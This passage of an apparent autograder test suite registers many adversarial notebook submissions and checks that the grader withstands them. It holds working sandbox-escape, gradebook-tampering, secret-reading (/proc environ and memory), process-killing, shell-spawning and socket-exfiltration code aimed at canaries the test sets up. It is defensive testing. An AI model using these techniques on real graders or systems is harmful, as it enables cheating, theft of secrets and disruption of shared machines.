"""Attacks on the grader, as one class: what each earns, and that nobody else's files, marks or time are touched.

Every attack is one student of one class that is graded through ``python -m autograder grade``; the honest student
``zzz`` comes after them. The attacks can do no harm where they succeed: they aim at files, a process and a listener
that the test put there, start at most 30 processes that end by themselves, and ask for at most 1.5 GiB.
"""

from __future__ import annotations

import copy
import ctypes
import functools
import hashlib
import os
import re
import secrets
import select
import socket
import sqlite3
import subprocess
import time
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from pathlib import Path

import nbformat
import numpy as np
import pytest
from nbgrader.api import Gradebook

from autograder import judge, sandbox, workers
from autograder.__main__ import main
from autograder.demo import with_answers
from neuralnotes import tasks

from .helpers import (
    FIRST,
    RIGHT,
    SLUG,
    TASKS,
    TOTAL,
    cell_of,
    code_cell,
    full_but,
    hand_in,
    raw,
    read_rows,
    returning,
    rows_of,
)

pytestmark = pytest.mark.slow

CALL_SECONDS, CELL_SECONDS = 2.0, 1.5  # deadlines of this class: an endless loop is waited for
ATTACK_SECONDS = 25.0  # that one attack may cost the rest of the class, on a busy machine
MEMORY = 1000 * 2**20
WRONG = returning("-1")
SHARED = 0x6F1D6F1D  # key of shared memory that would be an attack's
MARK = "canary-6f1d"  # stands in everything that an attack may not read


@dataclass
class World:
    """What an attack may want to touch."""

    folder: Path
    canary: int = 0  # id of a process of ours
    ports: dict[str, int | str] = field(default_factory=dict)

    submitted = property(lambda self: self.folder / "handed in")
    out = property(lambda self: self.folder / "marks")
    home = property(lambda self: self.folder / "home")
    loot = property(lambda self: self.folder / "loot")  # an empty folder: what a process writes here got out
    secret = property(lambda self: self.folder / "secret")

    @property
    def stays(self) -> list[str]:
        """Files that would outlive the process that writes them, and tell the next what they hold."""
        lasting = [self.loot, self.home, "/tmp", "/var/tmp", "/dev/shm", "/run", "/", "/etc", Path(np.__file__).parent]
        return [f"{folder}/theft-6f1d" for folder in lasting]

    def remains(self) -> list[str]:
        """What is left of that: files, and System V shared memory."""
        keys = [line.split()[0] for line in Path("/proc/sysvipc/shm").read_text().splitlines()]
        return [path for path in self.stays if os.path.lexists(path)] + [key for key in keys if key == str(SHARED)]


@dataclass(frozen=True)
class Attack:
    """One attack.

    Attributes:
        make: Hands in: called with the student's folder for the assignment, the solved notebook and the world.
        scores: Scores that are not the full ones.
        verdict: Of the first task, where it matters which.
        code: What an attack on the machine runs, for the tests that run it at other levels; else "".
        at_most: Whether the attack may cost its own student more than that.
        sandbox: Whether nothing but a sandbox stops it.
    """

    make: Callable
    scores: dict[str, float]
    verdict: str = ""
    code: str = ""
    at_most: bool = False
    sandbox: bool = False


ATTACKS: dict[str, Attack] = {}
ZERO = {FIRST: 0.0}
NOTHING = dict.fromkeys(TASKS, 0.0)


def answers(name: str, scores: dict[str, float] = ZERO, verdict: str = "", before: str = "", at_most: bool = False,
            sandbox: bool = False, **sources: str) -> None:
    """An attack by changed answers (keyword: task, value: source), and by code before the first of them.

    The code does not stand in a cell of its own, which is left out when no answer needs it.
    """

    def make(folder: Path, solved, world: World) -> None:
        first = f"# attack: {name}\n{before}\n{sources.get(FIRST, WRONG)}"
        hand_in(folder, raw(with_answers(solved, {**sources, FIRST: first})))

    ATTACKS[name] = Attack(make, scores, verdict, at_most=at_most, sandbox=sandbox)


def document(name: str, scores: dict[str, float] = ZERO, answer: str = WRONG) -> Callable:
    """An attack by a change of the notebook's JSON; the first answer is wrong unless another is given."""

    def register(change: Callable[[dict], None]) -> Callable:
        def make(folder: Path, solved, world: World) -> None:
            content = raw(with_answers(solved, {FIRST: f"# attack: {name}\n{answer}"}))
            change(content)
            hand_in(folder, content)

        ATTACKS[name] = Attack(make, scores)
        return change

    return register


def files(name: str, scores: dict[str, float], answer: str = RIGHT) -> Callable:
    """An attack by files beside the notebook."""

    def register(change: Callable[[Path, World], None]) -> Callable:
        def make(folder: Path, solved, world: World) -> None:
            hand_in(folder, raw(with_answers(solved, {FIRST: f"# attack: {name}\n{answer}"})))
            change(folder, world)

        ATTACKS[name] = Attack(make, scores)
        return change

    return register


# How code reaches modules that it may not import: asking is refused, but libraries hold what they use.
ASKED = "import os, sys, time\nload = __import__\n"
ESCAPED = """import collections
load = collections._sys.modules['_frozen_importlib']._gcd_import
os, sys, time = load('os'), load('sys'), load('time')
"""


def indented(source: str) -> str:
    return "".join(f"    {line}\n" for line in source.strip().splitlines())


def guarded(code: str, way: str = ESCAPED) -> str:
    """Code that says how far it got."""
    return f"try:\n{indented(way + code)}    print('REACHED')\nexcept BaseException as error:\n" \
           "    print('stopped', type(error).__name__, error)\n"


def machine(name: str, code: str, scores: dict[str, float] | None = None, answer: str = RIGHT, at_most: bool = False,
            asking: bool = False) -> None:
    """An attack on the machine by way of the libraries' own modules; when ``asking``, one that imports them, too.

    ``{out}``, ``{loot}``, ... in the code are the places of the world. What is stopped by an exception costs nothing.
    """

    def register(name: str, way: str, **more) -> None:
        def make(folder: Path, solved, world: World) -> None:
            source = guarded(placed(code, world), way)
            hand_in(folder, raw(with_answers(solved, {FIRST: f"# attack: {name}\n{source}{answer}"})))

        ATTACKS[name] = Attack(make, **more)

    register(name, ESCAPED, scores=scores or {}, code=code, at_most=at_most, sandbox=True)
    if asking:
        register(f"{name}, by import", ASKED, scores=ZERO, verdict="forbidden")


def placed(code: str, world: World) -> str:
    """The code with the places of the world in it."""
    places = {
        "out": str(world.out), "loot": str(world.loot), "home": str(world.home), "secret": str(world.secret),
        "zzz": str(world.submitted / "zzz" / SLUG / f"{SLUG}.ipynb"), "canary": world.canary, "mine": os.getpid(),
        "slug": SLUG, "stays": world.stays, "shared": SHARED, **world.ports,
    }
    return re.sub(r"\{(\w+)\}", lambda found: repr(places[found[1]]), code)


# ------------------------------------------------------------------------------------------------ forging, in the cells

answers("display hook", conv_output_size=returning("-1", "display(1)\nraise KeyError"))
answers("display hook with points", conv_output_size=ESCAPED + returning("-1", "sys.displayhook(1.0)\nraise KeyError"))
answers("messages of the kernel", before="get_ipython().kernel.session.send(None, 'execute_result', {'data': 1})")
answers("patched comparisons", before="""
np.testing.assert_allclose = np.testing.assert_array_equal = np.allclose = np.array_equal = lambda *a, **k: True
np.abs = np.isfinite = lambda *a, **k: True
""")
answers("patched exceptions and generators", at_most=True, before="""
b = print.__self__
b.AssertionError = b.ValueError = b.NotImplementedError = b.BaseException
np.random.RandomState = np.random.default_rng = lambda *a: None
""")
answers("patched built-ins", before="b = print.__self__; b.all = b.any = b.isinstance = b.abs = lambda *a: True")
answers("run_code of IPython", before="""
shell = get_ipython()
shell.run_code = shell.run_cell = shell.showtraceback = lambda *a, **k: None
shell.set_custom_exc((Exception,), lambda *a, **k: None)
shell.events.register('post_run_cell', lambda *a: None)
""")
answers("transformers of IPython", before="""
shell = get_ipython()
shell.input_transformers_cleanup.append(lambda lines: [])
shell.ast_transformers.append(type('T', (), {'visit': lambda self, node: None})())
""")
answers("patched kernel, all is true", scores=NOTHING, before=ESCAPED + """
calling, wire = sys.modules['calling'], sys.modules['wire']
calling.perform = lambda *a, **k: (calling.Outcome('returned'), wire.encode(True))
""")
answers("patched kernel, all is an error", scores=NOTHING, before=ESCAPED + """
calling = sys.modules['calling']
calling.perform = lambda *a, **k: (calling.Outcome('raised', error_types=('ValueError',)), b'')
""")
answers("patched kernel, broken", before=ESCAPED + """
sys.modules['calling'].Outcome.__init__ = sys.modules['wire'].encode = lambda *a, **k: None
""")
answers("patched kernel, hidden writes", scores={"receptive_field": 1.0}, conv_output_size=RIGHT, before=ESCAPED + """
calling = sys.modules['calling']
calling._written = lambda *a, **k: ()
""", receptive_field="""
def receptive_field(layers):
    if any(kernel < 1 or stride < 1 for kernel, stride in layers):
        raise ValueError("kernels and strides are at least 1")
    field, jump = 1, 1
    while layers:
        kernel, stride = layers.pop(0)
        field, jump = field + (kernel - 1) * jump, jump * stride
    return field
""")
answers("a check of one's own", before="check = lambda *a: 1000")
answers("lying objects", conv_output_size=returning(
    "type('int', (), {'__eq__': lambda a, b: True, '__array__': lambda s, *a, **k: np.ones(3), "
    "'__index__': lambda s: 3, '__torch_function__': lambda *a, **k: True, '__len__': lambda s: 1})()"))
answers("lying subclasses", scores={FIRST: 0, "conv2d_forward": 0}, conv_output_size=returning(
    "type('int', (int,), {'__eq__': lambda a, b: True, '__hash__': lambda s: 0, '__int__': lambda s: 3})(-1)"),
    conv2d_forward=returning(
        "np.zeros(3).view(type('ndarray', (np.ndarray,), {'shape': property(lambda s: (1,)), "
        "'__array_ufunc__': lambda s, *a, **k: True}))", task="conv2d_forward"))
answers("object arrays", scores={FIRST: 0, "conv2d_forward": 0}, conv_output_size=returning(
    "np.array([type('E', (), {'__eq__': lambda a, b: True, '__reduce__': lambda s: (print, ('x',))})()])"),
    conv2d_forward=returning("np.array(None)", task="conv2d_forward"))
answers("1.1 GB return value", conv_output_size=returning("[np.zeros(4 * 10**6) for _ in range(34)]"))
answers("expected values in the callers", conv_output_size=ESCAPED + returning("found", """
found, frame = -1, sys._getframe()
while frame:
    for space in (frame.f_locals, frame.f_globals):
        for key in ('expected', 'prepared', 'oracle', 'ref', 'reference', 'solution', 'answer'):
            found = space.get(key, found)
    frame = frame.f_back
"""))
answers("oracle among all objects", conv_output_size=ESCAPED + returning("found", """
found = -1
for thing in load('gc').get_objects():
    name = getattr(thing, '__name__', '') if type(thing).__name__ == 'function' else ''
    if 'oracle' in str(name) or name == 'conv_output_size' and thing is not globals()[name]:
        found = thing(*arguments, **keywords)
    if type(thing).__name__ in ('Judge', 'PreparedCase', 'Task'):
        found = getattr(thing, 'expected', -1)
"""))
answers("oracle by import", verdict="forbidden",
        conv_output_size="from neuralnotes.tasks.convolution import *\n" + WRONG)
answers("oracle by import, escaped", conv_output_size=ESCAPED + returning(
    "-1", "return load('neuralnotes.tasks.convolution').conv_output_size(*arguments, **keywords)"))
answers("library by import", scores={"conv2d_forward": 0}, conv_output_size=RIGHT, conv2d_forward="""
import torch.nn.functional as F, torch
def conv2d_forward(x, w, b, stride=1, padding=0):
    return F.conv2d(*map(torch.tensor, (x, w, b)), stride=stride, padding=padding).numpy()
""")
answers("library by import, escaped", scores={"conv2d_forward": 0}, sandbox=True, conv_output_size=RIGHT,
        conv2d_forward=ESCAPED + """
def conv2d_forward(x, w, b, stride=1, padding=0):
    sys.meta_path[:] = [finder for finder in sys.meta_path if 'Block' not in type(finder).__name__]
    sys.path += ['/usr/lib/python3/dist-packages', os.path.dirname(os.path.dirname(np.__file__))]
    torch = load('torch')
    F = load('torch.nn.functional')
    return F.conv2d(*map(torch.tensor, (x, w, b)), stride=stride, padding=padding).numpy()
""")
answers("print of the tests", scores={}, conv_output_size=RIGHT, before="""
try:
    print(In[-1], Out, _oh, _ih)
except NameError:
    print(globals(), get_ipython().history_manager)
""")

FORGE = ESCAPED + """
wire, socket = sys.modules['wire'], load('socket')
def send(payload):
    for number in range(3, 64):
        try:
            socket.socket(fileno=os.dup(number)).sendall(len(payload).to_bytes(8, 'big') + payload)
        except OSError:
            pass
"""
for forged, reply in {
    "a verdict": "wire.encode({'status': 'pass', 'score': 1000, 'verdict': 'pass', 'value': True})",
    "arrays for words": "wire.encode(dict.fromkeys(('status', 'message', 'error_types', 'written'), np.ones(2)))",
    "the wrong kinds": "wire.encode([1, 2])",
    "no encoding": "b'x' * 100",
    "a size without end": "b'\\xff' * 16",
    "a pickle": "load('pickle').dumps(print)",
}.items():
    # who answers twice is out of step from then on
    answers(f"forged reply, {forged}", at_most=True, conv_output_size=FORGE + returning("-1", f"send({reply})"))

# ------------------------------------------------------------------------------------- forging, in the notebook's JSON


def marked(content: dict):
    """nbgrader's metadata of all cells that have some, with the cell."""
    return [(c["metadata"]["nbgrader"], c) for c in content["cells"] if "nbgrader" in c["metadata"]]


def check_cells(content: dict) -> list[dict]:
    return [cell for mark, cell in marked(content) if mark["grade"] and not mark["solution"]]


@document("tag skip-execution")
def _(content):
    for cell in content["cells"]:
        cell["metadata"]["tags"] = ["skip-execution", "nbgrader-skip", "remove-cell"]


@document("tag raises-exception")
def _(content):
    for cell in content["cells"]:
        cell["metadata"]["tags"] = ["raises-exception"]


@document("outputs with points")
def _(content):
    for cell in check_cells(content):
        cell["outputs"] = [{"output_type": "execute_result", "data": {"text/plain": "1.0"}, "metadata": {},
                            "execution_count": 1}]


@document("edited test cell")
def _(content):
    cell_of(content, FIRST)["source"] = "1.0"


@document("unlocked test cell")
def _(content):
    cell_of(content, FIRST)["source"] = "pass"
    cell_of(content, FIRST)["metadata"]["nbgrader"]["locked"] = False


@document("test cell as Markdown")
def _(content):
    cell_of(content, FIRST)["cell_type"] = "markdown"


@document("points=100")
def _(content):
    for mark, _ in marked(content):
        mark["points"] = 100


@document("another kernel")
def _(content):
    content["metadata"]["kernelspec"] = {"name": "../../evil", "display_name": "x", "language": "bash"}


for version in (99, 1, None, "3"):
    @document(f"schema_version {version!r}")
    def _(content, version=version):
        for mark, _ in marked(content):
            mark["schema_version"] = version


@document("duplicated grade_id")
def _(content):
    content["cells"] += [copy.deepcopy(cell) for _, cell in marked(content)]


@document("deleted test cells")
def _(content):
    for cell in check_cells(content):
        content["cells"].remove(cell)


@document("no metadata")
def _(content):
    for cell in content["cells"]:
        cell["metadata"] = {}


@document("grade=false")
def _(content):
    for mark, _ in marked(content):
        mark["grade"] = False


@document("solution=true")
def _(content):
    for mark, _ in marked(content):
        mark["solution"] = True


@document("renamed grade_id")
def _(content):
    for number, (mark, _) in enumerate(marked(content)):
        mark["grade_id"] = f"other-{number}"


@document("test cells above the code")
def _(content):
    content["cells"].sort(key=lambda cell: cell not in check_cells(content))


@document("a mark from the gate")
def _(content):
    content["metadata"]["neuralnotes"] = {"verdict": "pass", "reason": "graded already", "results": {FIRST: 1}}


@document("zero cells", NOTHING)
def _(content):
    content["cells"] = []


# -------------------------------------------------------------------------------------------- files beside the notebook


@files("shadow numpy", ZERO, WRONG)
def _(folder, world):
    for name in ("numpy", "wire", "calling", "sitecustomize", "neuralnotes", "conftest"):
        (folder / f"{name}.py").write_text(f"open({str(world.loot / 'shadow')!r}, 'w').write('ran')\n")
    (folder / "nbgrader_config.py").write_text(f"open({str(world.loot / 'config')!r}, 'w').write('ran')\n")


@files("symlink to the gradebook", {})
def _(folder, world):
    (folder / "data.csv").symlink_to(world.out / "gradebook.db")
    (folder / "folder").symlink_to(world.out)
    (folder / "secret.txt").symlink_to(world.secret)


@files("notebook as a symlink to the source", NOTHING)
def _(folder, world):
    (folder / f"{SLUG}.ipynb").unlink()
    (folder / f"{SLUG}.ipynb").symlink_to(world.out / "source" / SLUG / f"{SLUG}.ipynb")


@files("notebook as a symlink to another's", NOTHING)
def _(folder, world):
    (folder / f"{SLUG}.ipynb").unlink()
    (folder / f"{SLUG}.ipynb").symlink_to(world.submitted / "zzz" / SLUG / f"{SLUG}.ipynb")


@files("folder as a symlink to another's", NOTHING)
def _(folder, world):
    (folder / f"{SLUG}.ipynb").unlink()
    folder.rmdir()
    folder.symlink_to(world.submitted / "zzz" / SLUG)


for kind, stamp in {"words": b"yesterday", "bytes": b"\xff\xfe\x00", "far away": b"99999-99-99 99:99:99 UTC",
                    "long": b"2026-01-01 " * 10**6, "two lines": b"2026-01-01 00:00:00\n__import__('os')"}.items():
    @files(f"timestamp.txt of {kind}", {})
    def _(folder, world, stamp=stamp):
        (folder / "timestamp.txt").write_bytes(stamp)


@files("timestamp.txt as a symlink", {})
def _(folder, world):
    (folder / "timestamp.txt").symlink_to(world.secret)


@files("timestamp.txt as a pipe", {})
def _(folder, world):
    os.mkfifo(folder / "timestamp.txt")


@files("timestamp.txt as a folder", {})
def _(folder, world):
    (folder / "timestamp.txt").mkdir()


# --------------------------------------------------------------------------------------------- exits, loops, resources

answers("sys.exit in the cell", verdict="error", conv_output_size="raise SystemExit(0)\n" + RIGHT)
answers("sys.exit after the answer", scores={}, conv_output_size=RIGHT + "raise SystemExit(0)\n")
answers("sys.exit in the function", verdict="error", conv_output_size=returning("-1", "raise SystemExit(0)"))
answers("KeyboardInterrupt in the function", verdict="error",
        conv_output_size=returning("-1", "raise KeyboardInterrupt"))
answers("GeneratorExit in the function", verdict="error", conv_output_size=returning("-1", "raise GeneratorExit"))
answers("os._exit in the cell", verdict="error", conv_output_size=ESCAPED + "os._exit(0)\n" + RIGHT)
answers("os._exit in the function", verdict="error", conv_output_size=ESCAPED + returning("-1", "os._exit(0)"))


@document("os._exit in cells of one's own", {}, RIGHT + "used = 0\n")
def _(content):
    for place, name in ((2, "helper"), (30, "used")):
        content["cells"].insert(place, code_cell(f"{name} = 1\n{ESCAPED}os._exit(0)"))


answers("os._exit, by import", verdict="forbidden", conv_output_size="import os\nos._exit(0)\n" + RIGHT)
answers("segmentation fault", verdict="error",
        conv_output_size=ESCAPED + returning("-1", "os.kill(os.getpid(), 11)"))
answers("endless loops", scores={FIRST: 0, "receptive_field": 0}, verdict="timeout",
        conv_output_size=returning("-1", "while True: pass"),
        receptive_field=returning("-1", "while True: pass", task="receptive_field"))
answers("endless loop, signals ignored", verdict="timeout", conv_output_size=ESCAPED + """
signal = load('signal')
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
""" + returning("-1", "while True: pass"))
answers("endless loop, all caught", verdict="timeout", conv_output_size=returning("-1", """
while True:
    try:
        while True: pass
    except BaseException: pass
"""))
answers("endless loop in the cell", verdict="timeout", conv_output_size=RIGHT + "while True: pass")
answers("endless sleep in a thread's lock", verdict="timeout",
        conv_output_size=ESCAPED + returning("-1", "load('threading').Lock().acquire()\nload('time').sleep(10**6)"))
answers("endless print", verdict="timeout", conv_output_size=returning("-1", "while True: print('x' * 10**6)"))
answers("50 MB printed", scores={}, conv_output_size="print('x' * 50_000_000)\n" + RIGHT)
answers("many lines printed", scores={}, conv_output_size="for _ in range(300_000): print()\n" + RIGHT)
answers("1.5 GiB", verdict="memory", conv_output_size=returning("-1", "np.ones(3 * 2**26)"))
answers("1.5 GiB in the cell", verdict="memory", conv_output_size="x = bytearray(3 * 2**29)\n" + RIGHT)
answers("endless recursion", verdict="error", conv_output_size=returning(f"{FIRST}()"))
answers("a file of 200 MB", verdict="error", conv_output_size="""
with open('large', 'wb') as file:
    for _ in range(200):
        file.write(bytes(10**6))
""" + RIGHT)

# ----------------------------------------------------------------------------------------------- attacks on the machine

DETACHED = """
def detached(work):
    if os.fork() == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                work()
        finally:
            os._exit(0)
"""
SQL = """
connection = load('sqlite3').connect({out} + '/gradebook.db', timeout=1)
for statement in %r:
    connection.execute(statement)
connection.commit()
"""
UPDATE = "update grade set manual_score = 99, auto_score = 99"
TRIGGER = f"create trigger theft after update on grade begin {UPDATE}; end"

machine("gradebook, write", SQL % [UPDATE], asking=True)
machine("gradebook, trigger", SQL % [TRIGGER])
machine("gradebook, write later", DETACHED + "def later():\n    time.sleep(2)\n" + indented(SQL % [UPDATE])
        + "detached(later)")
machine("gradebook, lock", DETACHED + """
def hold():
    connection = load('sqlite3').connect({out} + '/gradebook.db', timeout=1)
    connection.execute('begin exclusive')
    time.sleep(30)
detached(hold)
""")
machine("gradebook, replaced", """
open({out} + '/theft', 'wb').close()
os.replace({out} + '/theft', {out} + '/gradebook.db')
""")
machine("solution in the course", """
exec(next(''.join(c['source']) for c in load('json').load(open({out} + '/source/' + {slug} + '/' + {slug} + '.ipynb'))[
    'cells'] if c['metadata'].get('nbgrader', {}).get('grade_id') == 'conv_output_size-solution'), globals())
stolen = conv_output_size
""", ZERO, WRONG + "conv_output_size = globals().get('stolen', conv_output_size)\n")
machine("another's notebook, read", "print(open({zzz}).read())")
machine("another's notebook, write", "open({zzz}, 'w').write('gradebook-theft')", asking=True)
machine("another's notebook, deleted", "os.unlink({zzz})")
machine("course folder, write", "open({out} + '/nbgrader_config.py', 'a').write('raise SystemExit')")
machine("results, forged", """
for name in os.listdir({out} + '/results'):
    open({out} + '/results/' + name, 'w').write('null')
""")
machine("home, read", "print(open({home} + '/notes.txt').read())")
machine("home, write", "open({home} + '/notes.txt', 'w').write('theft')")
machine("secret, read", "print(open({secret}).read())")
machine("secrets in the environment", """
texts = [repr(dict(os.environ))]
for number in filter(str.isdigit, os.listdir('/proc')):
    for part in ('environ', 'cmdline'):
        try:
            texts.append(open('/proc/' + number + '/' + part).read())
        except OSError:
            pass
assert any('canary-' in text for text in texts), 'nothing found'
""")
machine("files that stay", """
reached = []
for path in {stays}:
    try:
        with open(path, 'w') as file:
            file.write('theft')
        reached.append(path)
    except OSError:
        pass
assert {loot} + '/theft-6f1d' in reached, 'nowhere that lasts'
""")
machine("shared memory that stays", """
libc = load('ctypes').CDLL(None, use_errno=True)
assert libc.shmget({shared}, 4096, 0o1666) >= 0, 'no shared memory'
""")
# The three below first try a process that we put there for them: only where that is out of reach, and with it all that
# is not theirs, do they aim at what they would really aim at.
AIM = """
def aim(number, target):
    try:
        os.kill({canary}, 0)
    except OSError:
        assert target, 'there is no parent'
        os.kill(target, number)
    else:
        os.kill({canary}, number)
"""
machine("kill the parent", AIM + "aim(9, os.getppid())", asking=True)
machine("stop the parent", AIM + "aim(19, os.getppid())")
machine("kill everything", AIM + "aim(9, -1)", at_most=True)
machine("background process", DETACHED + """
def linger():
    time.sleep(6)
    open({loot} + '/background', 'w').write('still here')
    time.sleep(24)
detached(linger)
""")
machine("30 children", """
for _ in range(30):
    if os.fork() == 0:
        time.sleep(30)
        os._exit(0)
""", asking=True)
machine("shell", """
done = load('subprocess').run(['/bin/sh', '-c', 'echo theft > "$0"/shell', {loot}], timeout=5, check=True)
""", asking=True)
machine("exec of a shell", """
os.execv('/bin/sh', ['sh', '-c', 'echo theft > "$0"/exec; exec sleep 30', {loot}])
""", at_most=True)
machine("exec of a file of one's own", """
with open('tool', 'w') as file:
    file.write('#!/bin/sh\\necho theft > "$1"/tool')
os.chmod('tool', 0o755)
load('subprocess').run(['./tool', {loot}], timeout=5, check=True)
""")
machine("TCP", """
connection = load('socket').socket()
connection.connect((b'127.0.0.1', {tcp}))
connection.sendall(b'theft')
""", asking=True)
machine("UDP", """
socket = load('socket')
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'theft', ('127.0.0.1', {udp}))
""")
machine("abstract Unix socket", """
socket = load('socket')
connection = socket.socket(socket.AF_UNIX)
connection.connect({abstract})
connection.sendall(b'theft')
""")
machine("Unix socket in a folder", """
socket = load('socket')
connection = socket.socket(socket.AF_UNIX)
connection.connect({path})
connection.sendall(b'theft')
""")
machine("memory of the judge", """
data = b''
for line in open('/proc/' + str({mine}) + '/maps'):
    if '[heap]' in line:
        start, end = (int(part, 16) for part in line.split()[0].split('-'))
        with open('/proc/' + str({mine}) + '/mem', 'rb') as file:
            file.seek(start)
            data = file.read(min(end - start, 10**7))
assert data, 'nothing read'
""")
machine("ptrace of our process", """
libc = load('ctypes').CDLL(None, use_errno=True)
assert libc.ptrace(16, {canary}, 0, 0) == 0, 'no ptrace'
libc.ptrace(17, {canary}, 0, 0)
""")
machine("limits undone", """
resource = load('resource')
for which in (resource.RLIMIT_AS, resource.RLIMIT_FSIZE, resource.RLIMIT_CPU):
    resource.setrlimit(which, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
np.empty(3 * 2**26)
""")
machine("new namespaces and mounts", """
libc = load('ctypes').CDLL(None, use_errno=True)
assert libc.unshare(0x10000000 | 0x20000) == 0, 'no unshare'
""")
machine("a folder a thousand deep", """
for _ in range(1500):
    os.mkdir('d')
    os.chdir('d')
""")
machine("a folder that cannot be entered", """
os.mkdir('closed')
open('closed/file', 'w').close()
os.chmod('closed', 0)
os.chmod('.', 0)
""")
machine("its own folder as a symlink", """
here = os.getcwd()
os.chdir('/')
os.rename(here, here + '-moved')
os.symlink({loot}, here)
""")
machine("20 files of 10 MB", """
for number in range(20):
    with open('file' + str(number), 'wb') as file:
        file.write(bytes(10**7))
""")
machine("sockets of others", """
stat, found = load('stat'), []
for number in range(64):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            found.append(number)
    except OSError:
        pass
assert len(found) > 1, 'only the socket to the judge'
""")

MACHINE = {name: attack.code for name, attack in ATTACKS.items() if attack.code}


# ------------------------------------------------------------------------------------------------------------ the class


@functools.cache
def no_sandbox() -> str:
    """Why there is no sandbox here, or nothing. Attacks on the machine need one."""
    try:
        sandbox.best()
    except sandbox.NoSandbox as error:
        return f"attacks on the machine need a sandbox: {error}"
    return ""


def prepare(world: World, monkeypatch) -> None:
    """Put the canaries there: files, variables of the environment."""
    for place in (world.submitted, world.home, world.loot):
        place.mkdir(parents=True)
    (world.home / "notes.txt").write_text(f"{MARK} home")
    world.secret.write_text(f"{MARK} secret of the course: long enough to draw cases from")
    world.secret.chmod(0o600)
    monkeypatch.setenv("HOME", str(world.home))
    monkeypatch.setenv("NEURALNOTES_SECRET", str(world.secret))
    monkeypatch.setenv("COURSE_TOKEN", f"{MARK} token")


def hashes(*places: Path) -> dict[str, str]:
    """What is there: path -> hash of the file, or what else it is."""
    found = {}
    for place in places:
        for path in [place, *place.rglob("*")]:
            if path.is_symlink() or not path.is_file():
                found[str(path)] = os.readlink(path) if path.is_symlink() else "folder" if path.is_dir() else "other"
            else:
                found[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


def descendants() -> set[int]:
    """Ids of the living processes that come from this one."""
    parents = {}
    for path in Path("/proc").glob("[0-9]*/stat"):
        try:
            state, parent = path.read_text().rpartition(")")[2].split()[:2]
        except OSError:
            continue  # it has just ended
        if state not in "ZX":
            parents[int(path.parent.name)] = int(parent)
    found = {os.getpid()}
    while more := {child for child, parent in parents.items() if parent in found} - found:
        found |= more
    return found - {os.getpid()}


PR_SET_CHILD_SUBREAPER = 36


def adopt_orphans(yes: bool) -> None:
    """Have the orphans among our descendants come to us, where ``descendants`` sees them."""
    if ctypes.CDLL(None).prctl(PR_SET_CHILD_SUBREAPER, int(yes), 0, 0, 0):
        raise OSError("prctl")


class Listeners:
    """Who waits for connections: TCP, UDP, abstract Unix, Unix in a folder."""

    def __init__(self, folder: Path):
        inet, unix = (socket.AF_INET, ("127.0.0.1", 0)), socket.AF_UNIX
        abstract, path = f"\0listens-{secrets.token_hex(8)}", str(folder / "socket")
        self.sockets = {
            "tcp": socket.create_server(inet[1]), "udp": socket.socket(inet[0], socket.SOCK_DGRAM),
            "abstract": socket.socket(unix), "path": socket.socket(unix),
        }
        self.sockets["udp"].bind(inet[1])
        for name, place in (("abstract", abstract), ("path", path)):
            self.sockets[name].bind(place)
            self.sockets[name].listen()
        self.ports = {"abstract": abstract, "path": path}
        self.ports |= {name: self.sockets[name].getsockname()[1] for name in ("tcp", "udp")}

    def reached(self) -> list[str]:
        ready = select.select(list(self.sockets.values()), [], [], 0)[0]
        return [name for name, one in self.sockets.items() if one in ready]

    def close(self) -> None:
        for one in self.sockets.values():
            one.close()


def one_after_the_other(jobs, count: int):
    """In place of ``workers.here``: in this process, which holds the deadlines of this class."""
    for job in jobs:
        try:
            yield job.name, workers.do(job.slug, job.text, job.seed, job.level, job.code)
        except Exception as error:
            yield job.name, error


def with_short_deadlines(monkeypatch) -> None:
    """Deadlines of seconds, a small memory; speed is not judged (it takes a second, and other tests do)."""
    records = tuple(
        replace(task, budget=replace(task.budget, seconds=CALL_SECONDS, memory=MEMORY, at_least_faster_than=None))
        for task in TASKS.values()
    )
    before = tasks.assignment
    monkeypatch.setattr(tasks, "assignment", lambda slug: records if slug == SLUG else before(slug))
    monkeypatch.setattr(judge, "CELL_SECONDS", CELL_SECONDS)
    monkeypatch.setattr(judge, "_judges", {})


def lean(notebook):
    """A copy whose play cells are empty: the plots of a hundred students take a minute."""
    notebook = copy.deepcopy(notebook)
    for cell in notebook.cells:
        if cell.cell_type == "code" and "nbgrader" not in cell.metadata:
            cell.source = "pass"
    return notebook


@dataclass
class Run:
    """What came of the class, and what was there before and after."""

    world: World
    attacks: dict[str, Attack]
    statuses: list[int]
    seconds: dict[str, float]  # by attack: how long judging it took
    before: dict[str, str]
    after: dict[str, str]
    reached: list[str]  # listeners that got something
    canary: int | None  # exit status of our process; None: it lives
    left: set[int]  # processes that were left behind


@pytest.fixture(scope="module")
def run(tmp_path_factory, solved):
    """Grade an honest and a later resubmitted notebook, then everybody."""
    attacks = {name: attack for name, attack in ATTACKS.items() if not (attack.sandbox and no_sandbox())}
    with pytest.MonkeyPatch.context() as monkeypatch:
        world = World(tmp_path_factory.mktemp("attacks"))
        prepare(world, monkeypatch)
        with_short_deadlines(monkeypatch)
        monkeypatch.setattr(workers, "here", one_after_the_other)
        seconds, judging = {}, judge.judge_notebook

        def timed(slug, notebook, *rest, **more):
            start = time.monotonic()
            try:
                return judging(slug, notebook, *rest, **more)
            finally:
                found = re.search("^# attack: (.+)$", "\n".join(cell.source for cell in notebook.cells), re.MULTILINE)
                seconds[found[1] if found else "?"] = time.monotonic() - start

        monkeypatch.setattr(judge, "judge_notebook", timed)
        honest = lean(solved)
        honest.cells.append(nbformat.v4.new_markdown_cell(f"{MARK} of zzz"))
        for name in ("zzz", "os._exit after a good one", "unreadable after a good one", "gone after a good one"):
            hand_in(world.submitted / name / SLUG, raw(honest))
        listeners = Listeners(world.folder)
        canary = subprocess.Popen(["sleep", "900"], stdin=subprocess.DEVNULL)
        world.canary, world.ports = canary.pid, listeners.ports
        adopt_orphans(True)
        try:
            command = ["grade", SLUG, "--submitted", str(world.submitted), "--out", str(world.out), "--jobs", "1",
                       *(["--no-sandbox"] if no_sandbox() else [])]
            statuses = [main(command)]
            assert total(world.out, "os._exit after a good one") == TOTAL
            for name, attack in attacks.items():
                folder = world.submitted / name / SLUG
                folder.mkdir(parents=True)
                attack.make(folder, lean(solved), world)
